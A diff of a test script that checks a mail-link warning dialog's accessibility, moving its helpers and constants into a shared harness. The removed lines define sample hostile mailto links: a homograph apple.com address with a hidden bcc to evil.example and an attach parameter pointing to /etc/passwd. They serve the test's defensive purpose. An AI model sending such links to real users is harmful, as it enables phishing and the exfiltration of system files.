@@ -22,25 +22,21 @@ import a11y
 
 a11y.reexec_with_system_python()
 
-from open_desktop import Desktop, wait_exit  # noqa: E402
-from session import Failure, Session  # noqa: E402
+from harness import titles  # noqa: E402
+from harness.checks import Checks  # noqa: E402
+from harness.desktop import Desktop, wait_exit  # noqa: E402
+from harness.links import BCC_ONLY, HOMOGRAPH  # noqa: E402
+from harness.session import Failure, Session  # noqa: E402
 
 PROG = os.path.realpath(sys.argv[1])
-HOMOGRAPH = "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd"
-BCC_ONLY = "mailto:a@example.org?bcc=x@evil.example"
-failures = []
-
-
-def check(cond, msg):
-    print(("ok:   " if cond else "FAIL: ") + msg)
-    if not cond:
-        failures.append(msg)
+checks = Checks("accessibility", show_passed=True)
+check, failures = checks.check, checks.failures
 
 
 def read_question(pyatspi, s):
     """(dialog, heading, labels, buttons) once mailtokit-ask shows its buttons. The window gets
     the keyboard focus first, as a window manager gives it to a new window (Xvfb has none)."""
-    s.activate(s.wait_window(r"^mailtokit: check this link before it opens$", timeout=30))
+    s.activate(s.wait_window(titles.QUESTION, timeout=30))
     def ready(app):
         nodes = list(a11y.walk(app))
         dialogs = [n for n in nodes if n.getRole() in (pyatspi.ROLE_ALERT, pyatspi.ROLE_DIALOG)]
@@ -75,7 +71,7 @@ with Session("accessibility", 1280, 800) as s:
     p, log = d.start(["open", HOMOGRAPH])
     dialog, headings, labels, buttons = read_question(pyatspi, s)
     check(dialog.getRole() == pyatspi.ROLE_ALERT, f"the window's role is alert ({dialog.getRoleName()})")
-    check(dialog.name == "mailtokit: check this link before it opens", f"the alert is named by the title: {dialog.name!r}")
+    check(dialog.name == titles.QUESTION_TEXT, f"the alert is named by the title: {dialog.name!r}")
     check(len(headings) == 1, f"one heading ({[h.name for h in headings]})")
     headline = headings[0].name if headings else ""
     check(("x@evil.example" in headline or "hidden" in headline or "apple.com" in headline) and len(headline) > 10,
@@ -147,7 +143,4 @@ with Session("accessibility", 1280, 800) as s:
     check(rc == 0 and b'filename="notes.txt"' in draft and b"report.pdf" not in draft,
           "the file checked through AT-SPI is attached, the other not")
 
-if failures:
-    print(f"{len(failures)} failure(s)")
-    sys.exit(1)
-print("accessibility: all checks passed")
+checks.finish()
